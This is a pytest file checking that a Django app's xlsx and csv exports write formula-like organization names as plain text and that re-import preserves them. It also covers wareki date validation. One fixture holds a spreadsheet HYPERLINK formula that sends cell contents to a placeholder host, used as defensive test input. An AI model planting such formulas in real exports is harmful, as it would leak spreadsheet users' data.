"""Exports never hand Excel a formula: text starting with = + - @ stays text (CSV / formula injection)."""

from __future__ import annotations

import datetime as dt
import io

import openpyxl
import pytest

from council.models import Organization
from spreadsheets.tables import export_bytes, read_table, run_import
from tests.factories import OrganizationFactory

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://example.invalid/?leak="&A1,"開く")'


@pytest.fixture
def hostile(council):
    OrganizationFactory(council=council, name=HOSTILE)
    OrganizationFactory(council=council, name="@SUM(1+1)")
    OrganizationFactory(council=council, name="-")  # one dash alone is plain text for Excel
    return council


def test_xlsx_export_writes_formula_like_text_as_text_cells(hostile):
    book = openpyxl.load_workbook(
        io.BytesIO(export_bytes("organizations", council=hostile, user=None, fmt="xlsx"))
    )
    cells = {c.value: c.data_type for row in book.active.iter_rows(min_row=2) for c in row if c.value}
    assert cells[HOSTILE] == "s"
    assert cells["@SUM(1+1)"] == "s"
    assert "f" not in cells.values()


def test_csv_export_guards_formula_like_text_and_import_reads_it_back(hostile):
    data = export_bytes("organizations", council=hostile, user=None, fmt="csv")
    text = data.decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "'@SUM(1+1)" in text
    assert "\n=" not in text and ",=" not in text
    table = read_table(data, "organizations.csv")
    names = {row[table.headers.index("機関名")] for row in table.rows}
    assert {HOSTILE, "@SUM(1+1)", "-"} <= names
    before = list(Organization.objects.order_by("pk").values_list("name", flat=True))
    report = run_import(
        resource_name="organizations", council=hostile, data=data, filename="o.csv", dry_run=False
    )
    assert not report.has_errors
    assert list(Organization.objects.order_by("pk").values_list("name", flat=True)) == before


def test_an_apostrophe_before_ordinary_text_is_kept():
    data = "機関名,種別\n'みどり,その他\n".encode()
    table = read_table(data, "o.csv")
    assert table.rows[0][0] == "'みどり"


def test_xlsx_date_cell_outside_the_wareki_range_is_an_error(council):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["会議体", "年度", "開催日"])
    sheet.append(["全体会", None, dt.date(1000, 1, 1)])
    out = io.BytesIO()
    book.save(out)
    report = run_import(
        resource_name="meetings", council=council, data=out.getvalue(), filename="m.xlsx", dry_run=True
    )
    assert report.has_errors
    assert any("明治2年4月1日" in message for message in report.errors)
